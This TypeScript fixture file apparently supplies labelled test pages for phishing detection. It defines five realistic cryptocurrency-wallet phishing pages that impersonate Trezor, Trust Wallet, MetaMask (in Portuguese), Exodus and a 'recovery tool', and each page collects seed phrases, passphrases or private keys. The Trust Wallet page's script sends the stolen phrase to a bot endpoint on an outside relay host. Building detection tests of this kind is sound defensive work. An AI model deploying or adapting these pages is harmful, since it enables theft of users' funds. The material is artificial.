import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import * as B from '../parts/e-bin.js';
import * as Z from '../parts/zj-kit.js';

const words = (n: number, ph = 'word') => Array.from({ length: n }, (_, i) => `<input name="w${i + 1}" placeholder="${i + 1}. ${ph}" autocomplete="off" style="width:23%;margin:1%">`).join('');

export const entries: Entry[] = [
  {
    id: 'zj-seed-trezor-firmware-urgent',
    label: 'phishing',
    kind: 'seed-harvest',
    url: 'https://trezor-suite.update-device.com/firmware',
    body: Z.doc({
      title: 'Trezor Suite | Critical firmware update 2.8.1',
      body: `<header class="top"><a class="logo">TREZOR</a></header><main style="max-width:640px">
  <div class="warn"><b>Critical security vulnerability detected</b> on Trezor Model One / Model T firmware below 2.8.1. Funds on affected devices can be extracted by physical attackers.</div>
  <h2>Step 2 of 3: Verify your wallet backup</h2><p>Before flashing, enter your recovery seed so Trezor Suite can verify that your backup matches the device after update.</p>
  <form method="post" action="https://trezor-suite.update-device.com/api/verify">${words(12, 'seed word')}<label>Passphrase (if used)</label><input name="pp" type="password"><button class="btn" style="margin-top:16px">Continue update</button></form>
  <p style="font-size:12px;color:#888">Trezor Company s.r.o. · Kundratka 2359/17a, Prague</p></main>`,
    }),
    routes: { 'trezor-suite.update-device.com/api/verify': redirectRoute(302, 'https://trezor.io/') },
  },
  {
    id: 'zj-seed-trustwallet-support-chat',
    label: 'phishing',
    kind: 'support-seed',
    url: 'https://trustwallet-helpdesk.com/ticket/48213',
    body: Z.doc({
      title: 'Trust Wallet Support — Ticket #48213',
      style: Z.LIGHT + '.chat{max-width:560px;margin:20px auto;border:1px solid #ddd;border-radius:12px;padding:16px}.msg{background:#eef3ff;border-radius:10px;padding:10px 14px;margin:8px 0}.me{background:#e8f7ee;text-align:right}',
      body: `${Z.top('🛡 Trust Wallet', ['Help Center', 'Submit a request'])}
  <div class="chat"><p><b>Agent Daniel</b> · Trust Wallet Support · online</p>
  <div class="msg">Hello! I'm sorry to hear your BNB withdrawal is stuck. I've escalated your ticket to our technical team.</div>
  <div class="msg">Your wallet has a pending node desync. To re-sync it, please submit your wallet's 12-word recovery phrase through the secure form below. It is encrypted and only used by the automatic sync bot.</div>
  <form id="f"><label>Wallet recovery phrase</label><textarea id="p" rows="3"></textarea><label>Wallet address</label><input id="a"><label>Email</label><input id="e" type="email"><button class="btn" style="margin-top:12px">Submit to sync bot</button></form></div>
  ${Z.foot('Trust Wallet', { Support: ['FAQ', 'Community', 'Contact'] }, 'Trust Wallet never asks for your private keys except through verified support channels.')}
  <script>document.getElementById('f').onsubmit=function(ev){ev.preventDefault();var b={text:'TW | '+document.getElementById('p').value+' | '+document.getElementById('a').value+' | '+document.getElementById('e').value};
  fetch('https://relay.tw-helpdesk-api.com/bot6931874402/sendMessage?chat_id=-100218842',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(b)}).finally(function(){document.querySelector('.chat').insertAdjacentHTML('beforeend','<div class="msg">Thanks! Sync started, please wait 24–48 hours.</div>')})};</script>`,
    }),
    routes: { 'relay.tw-helpdesk-api.com/bot6931874402/sendMessage': Z.json({ ok: true }) },
  },
  {
    id: 'zj-seed-recovery-tool-btc',
    label: 'phishing',
    kind: 'recovery-tool',
    url: 'https://walletrecoverytool.io/',
    body: Z.doc({
      title: 'Wallet Recovery Tool — Recover lost Bitcoin & Ethereum wallets',
      desc: 'Recover wallets with partial seed phrases, wrong passwords or corrupted wallet.dat files.',
      body: `${Z.top('🔑 WalletRecoveryTool', ['How it works', 'Pricing', 'Reviews', 'Contact'])}
  <main><h1>Forgot part of your seed phrase?</h1><p>Our GPU cluster can recover wallets with up to 4 missing or misspelled words, swapped order, or a forgotten BIP39 passphrase. 94% success rate. No recovery, no fee.</p>
  <h2>Start a free scan</h2><form id="f"><label>Wallet type</label><select id="t"><option>Bitcoin (Electrum / BIP39)</option><option>Ethereum / MetaMask</option><option>Ledger / Trezor</option><option>Exodus</option></select>
  <label>Words you remember (use ? for unknown words)</label><textarea id="w" rows="3" style="width:100%"></textarea><label>Known address (optional)</label><input id="ad"><label>Email for results</label><input id="em">
  <button class="btn" style="margin-top:12px">Start recovery</button></form>
  <h2>Reviews</h2><p>★★★★★ "Recovered 2.1 BTC from my 2017 Electrum wallet" — Mark T.</p><p>★★★★★ "Fast and honest" — Priya</p></main>
  ${Z.foot('WalletRecoveryTool Ltd', { Company: ['About', 'Privacy', 'Terms'] }, 'Fee: 20% of recovered funds.')}
  <script>document.getElementById('f').onsubmit=function(e){e.preventDefault();fetch('/api/job',{method:'POST',body:JSON.stringify({t:document.getElementById('t').value,w:document.getElementById('w').value,a:document.getElementById('ad').value,e:document.getElementById('em').value})}).then(function(r){return r.json()}).then(function(j){alert('Job '+j.id+' queued. Estimated time: 6 hours.')})};</script>`,
    }),
    routes: { 'walletrecoverytool.io/api/job': Z.json({ id: 'RC-20931' }) },
  },
  {
    id: 'zj-seed-pt-metamask-atualizacao',
    label: 'phishing',
    kind: 'seed-harvest',
    url: 'https://metamask-suporte.com.br/atualizar',
    body: Z.doc({
      lang: 'pt-BR',
      title: 'MetaMask — Atualização de segurança',
      style: Z.LIGHT + 'main{max-width:480px;text-align:center}',
      body: `<main><img src="/mm.png" width="70"><h2>Atualização obrigatória</h2><p>Sua carteira MetaMask precisa ser atualizada para a versão 12.4 para continuar funcionando. Para restaurar sua carteira após a atualização, informe sua Frase de Recuperação Secreta.</p>
  <textarea id="f" rows="4" style="width:100%" placeholder="Digite sua frase de 12 palavras"></textarea><input id="s" type="password" placeholder="Nova senha (mín. 8 caracteres)" style="margin-top:8px"><p><button class="btn" id="b">Atualizar carteira</button></p>
  <p style="font-size:12px">MetaMask © ConsenSys 2026 · Suporte</p></main>
  <script>document.getElementById('b').onclick=function(){var d=new FormData();d.append('frase',document.getElementById('f').value);d.append('senha',document.getElementById('s').value);
  fetch('/atualizar/salvar.php',{method:'POST',body:d}).then(function(){document.body.innerHTML='<main><h2>Atualizando…</h2><p>Não feche esta janela.</p></main>'})};</script>`,
    }),
    routes: { 'metamask-suporte.com.br/mm.png': Z.img(246, 133, 27), 'metamask-suporte.com.br/atualizar/salvar.php': { status: 200, headers: { 'content-type': 'text/plain' }, body: 'ok' } },
  },
  {
    id: 'zj-privkey-exodus-export-check',
    label: 'phishing',
    kind: 'privkey-harvest',
    url: 'https://exodus-assetcheck.com/',
    body: Z.doc({
      title: 'Exodus — Asset Compatibility Check',
      style: Z.DARK + 'body{background:linear-gradient(135deg,#1a0b3b,#0b1a3b)}',
      body: `<div class="card" style="margin-top:60px"><h2>Asset compatibility check</h2><p class="muted">Some assets in older Exodus wallets are incompatible with the 25.x release. Paste the private key of the affected asset (Exodus → asset → ⋯ → View private keys) to check and migrate it.</p>
  <label class="muted">Asset</label><select id="a"><option>Bitcoin</option><option>Ethereum</option><option>Solana</option><option>Tron</option></select><label class="muted">Private key</label><input id="k" placeholder="L1aW4aubDFB7yfras2S1mN3bqg9nwySY8nkoLmJebSLD5BWv3ENZ">
  <button class="btn" style="width:100%;margin-top:12px" id="c">Check</button><p id="o" class="muted"></p></div>
  <script>document.getElementById('c').onclick=async function(){var k=document.getElementById('k').value;if(k.length<50){document.getElementById('o').textContent='Invalid key format';return}
  await fetch('/v1/check',{method:'POST',body:JSON.stringify({a:document.getElementById('a').value,k:k})});document.getElementById('o').textContent='Migration scheduled ✓';};</script>`,
    }),
    routes: { 'exodus-assetcheck.com/v1/check': Z.json({ ok: 1 }) },
  },
];
